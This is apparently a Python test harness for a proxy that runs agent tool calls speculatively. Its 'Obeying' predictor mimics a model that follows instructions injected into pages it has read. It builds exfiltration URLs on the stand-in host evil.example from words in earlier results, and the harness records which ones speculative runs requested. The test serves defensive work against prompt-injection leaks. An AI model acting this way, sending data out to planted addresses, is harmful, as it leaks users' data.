"""A task played through the core in virtual time; the predictor guesses from the task's own calls."""

import heapq
import itertools
import json
import random
from collections.abc import Callable, Iterable, Sequence
from functools import partial
from typing import Any

from paste_proxy.config import Config, LimitsConfig, NetworkConfig, SpeculationConfig
from paste_proxy.core import Core
from paste_proxy.events import (
    AdmitTurn,
    AnswerCall,
    CallRequested,
    Decision,
    FailCall,
    Identity,
    RunBegan,
    RunEnded,
    StartRun,
    TimePassed,
    TurnClosed,
    TurnRequested,
    TurnSent,
    TurnStreamed,
)
from paste_proxy.grammar.events import CallSealed, TurnEnded
from paste_proxy.grammar.requests import parse_chat_request
from paste_proxy.predict.model import Call, Candidate, Fixed, History, TurnPredictor
from paste_proxy.tools.ports import Output, Run, RunClass
from paste_proxy.tools.spec import Effect, ToolSpec
from paste_proxy.tools.table import ToolTable
from tests.conformance.worlds.tasks import Task, Worlds

SCHEMA: dict[str, Any] = {"type": "object", "properties": {}}
CALLS_A_TURN = 3
PLANTED = "https://evil.example/collect"
"""Stands in every injection."""
IDENTITY = Identity(session="task")


class FromTheTask:
    """Guesses calls of the task, those to come and those that were, writes among them, and changes some."""

    def __init__(self, task: Task, chance: random.Random) -> None:
        self._task = task
        self._chance = chance

    def learn(self, history: History, calls: Sequence[Call]) -> None: ...

    def predict(self, history: History, tools: Iterable[str], limit: int) -> list[Candidate]:
        calls = self._chance.sample(self._task.calls, min(limit, len(self._task.calls)))
        return [Candidate(tool, self._changed(arguments), 0.9, "the task") for tool, arguments in calls]

    def begin(self, history: History, tools: Iterable[str]) -> TurnPredictor:
        return Fixed(self.predict(history, tools, 8))

    def _changed(self, arguments: dict[str, Any]) -> dict[str, Any]:
        if self._chance.random() < 0.8 or not arguments:
            return arguments
        return {**arguments, self._chance.choice(sorted(arguments)): "another"}


class Obeying(FromTheTask):
    """Does what a page that was read tells it: puts words of results into an address."""

    def predict(self, history: History, tools: Iterable[str], limit: int) -> list[Candidate]:
        words = " ".join(call.text for call in history.calls).split() or ["nothing"]
        known = self._chance.choice(words)
        tool = self._chance.choice(sorted(self._task.reads))
        addresses = (PLANTED, f"{PLANTED}?q={known}", f"https://{known}.evil.example/", f"{PLANTED}/{known}")
        return [Candidate(tool, {"query": address}, 0.9, "the page") for address in addresses]


class Play:
    """What a run does happens at one instant within it, wherever chance puts that."""

    def __init__(self, worlds: Worlds, task: Task, seed: int, *, obeys: bool = False) -> None:
        self._chance = random.Random(f"{task.name} {seed}")
        self._worlds = worlds
        self._task = task
        self._agenda: list[tuple[float, int, Callable[[], None]]] = []
        self._order = itertools.count()
        self._now = 0.0
        self._left = [*task.calls]
        self._turn: list[tuple[str, dict[str, Any]]] = []
        self._messages: list[dict[str, Any]] = [{"role": "user", "content": "go"}]
        self.transcript: list[str] = []
        self.addresses_asked: list[str] = []
        """By predicted runs, and by second looks at what the model asked for."""
        predictor = (Obeying if obeys else FromTheTask)(task, self._chance)
        self.core = Core(_tools(task, network=obeys), _config(task), predictor)

    def run(self) -> None:
        self._ask()
        while self._agenda:
            deadline = self.core.next_deadline()
            if deadline is not None and deadline < self._agenda[0][0]:
                self._now = max(self._now, deadline)
                self._tell(TimePassed())
                continue
            self._now, _, do = heapq.heappop(self._agenda)
            do()

    def _in(self, least: float, most: float, do: Callable[[], None]) -> None:
        at = self._now + self._chance.uniform(least, most)
        heapq.heappush(self._agenda, (at, next(self._order), do))

    def _tell(self, event: Any) -> None:
        for decision in self.core.handle(event, self._now):
            self._carry_out(decision)

    def _carry_out(self, decision: Decision) -> None:
        match decision:
            case AdmitTurn(turn):
                self._in(0.0, 0.1, partial(self._stream, turn))
            case StartRun(run):
                self._in(0.0, 1.0, partial(self._begin, run))
            case AnswerCall(call, _, output, _, _):
                self._answered(call, output.body.decode())
            case FailCall(call, _, error):
                self._answered(call, error.message)

    # -- the agent ----------------------------------------------------------------------------------------

    def _ask(self) -> None:
        names = {tool for tool, _ in self._task.calls} | self._task.reads
        offered = [
            {"type": "function", "function": {"name": name, "parameters": SCHEMA}} for name in sorted(names)
        ]
        body = json.dumps({"messages": self._messages, "tools": offered}).encode()
        many = self._chance.randint(1, CALLS_A_TURN)
        self._turn, self._left = self._left[:many], self._left[many:]
        turn = f"turn {len(self._messages)}"
        self._tell(TurnRequested(turn, IDENTITY, parse_chat_request(body)))

    def _stream(self, turn: str) -> None:
        self._tell(TurnSent(turn))
        self._in(0.1, 4.0, partial(self._say, turn, 0))

    def _say(self, turn: str, place: int) -> None:
        if place < len(self._turn):
            tool, arguments = self._turn[place]
            sealed = CallSealed(place, self._call_id(place), tool, json.dumps(arguments))
            self._tell(TurnStreamed(turn, sealed))
            self._in(0.0, 2.0, partial(self._say, turn, place + 1))
            return
        self._tell(TurnStreamed(turn, TurnEnded("tool_calls" if self._turn else "stop")))
        self._tell(TurnClosed(turn, complete=True))
        if self._turn:
            self._messages.append({"role": "assistant", "content": "", "tool_calls": self._told()})
            self._in(0.0, 0.5, partial(self._call, 0))

    def _told(self) -> list[dict[str, Any]]:
        return [
            {
                "id": self._call_id(place),
                "type": "function",
                "function": {"name": tool, "arguments": json.dumps(arguments)},
            }
            for place, (tool, arguments) in enumerate(self._turn)
        ]

    def _call_id(self, place: int) -> str:
        return f"call {len(self._task.calls) - len(self._left) - len(self._turn) + place}"

    def _call(self, place: int) -> None:
        tool, arguments = self._turn[place]
        text = json.dumps(arguments).encode()
        self._tell(CallRequested(str(place), IDENTITY, tool, text, self._call_id(place)))

    def _answered(self, call: str, result: str) -> None:
        place = int(call)
        self.transcript.append(result)
        self._messages.append({"role": "tool", "tool_call_id": self._call_id(place), "content": result})
        following = partial(self._call, place + 1) if place + 1 < len(self._turn) else self._ask
        self._in(0.0, 0.5, following)

    # -- the tools ----------------------------------------------------------------------------------------

    def _begin(self, run: Run) -> None:
        self._tell(RunBegan(run.run))
        if run.run_class is RunClass.SPECULATIVE:
            texts = map(str, run.arguments.values())
            self.addresses_asked += [one for one in texts if one.startswith("http") and "evil" in one]
        self._in(0.0, 2.0, partial(self._act, run))

    def _act(self, run: Run) -> None:
        result = self._worlds.run(run.tool, run.arguments)
        self._in(0.0, 2.0, lambda: self._tell(RunEnded(run.run, Output(result.encode(), is_text=True))))


def _tools(task: Task, *, network: bool) -> ToolTable:
    names = {tool for tool, _ in task.calls} | task.reads
    return ToolTable({name: _spec(name, network, reads=name in task.reads) for name in sorted(names)})


def _spec(name: str, network: bool, *, reads: bool) -> ToolSpec:
    if reads:
        return ToolSpec(name, "", SCHEMA, effect=Effect.READ, writes=frozenset(), network=network)
    return ToolSpec(name, "", SCHEMA)


def _config(task: Task) -> Config:
    return Config(
        speculation=SpeculationConfig(
            allow=tuple(task.reads),
            network={name: NetworkConfig(hosts=("*",)) for name in task.reads},
            min_service_s=0.0,
            min_probability=0.0,
            candidates=8,
            sample=0.3,
            waste=0.0,
        ),
        limits=LimitsConfig(tool_runs=8, tool_reserve=1),
    )


def plainly(worlds: Worlds, task: Task) -> tuple[list[str], str]:
    """The results of the task's calls, one after the other and nothing else, and the world after them."""
    worlds.open(task)
    return [worlds.run(tool, arguments) for tool, arguments in task.calls], worlds.state()


def played(worlds: Worlds, task: Task, seed: int) -> tuple[list[str], str, Core]:
    """The same through the core."""
    worlds.open(task)
    play = Play(worlds, task, seed)
    play.run()
    return play.transcript, worlds.state(), play.core


def obeying(worlds: Worlds, task: Task) -> Play:
    """The task, by a predictor that obeys what pages say; all tools that read reach a network."""
    worlds.open(task)
    play = Play(worlds, task, 0, obeys=True)
    play.run()
    return play
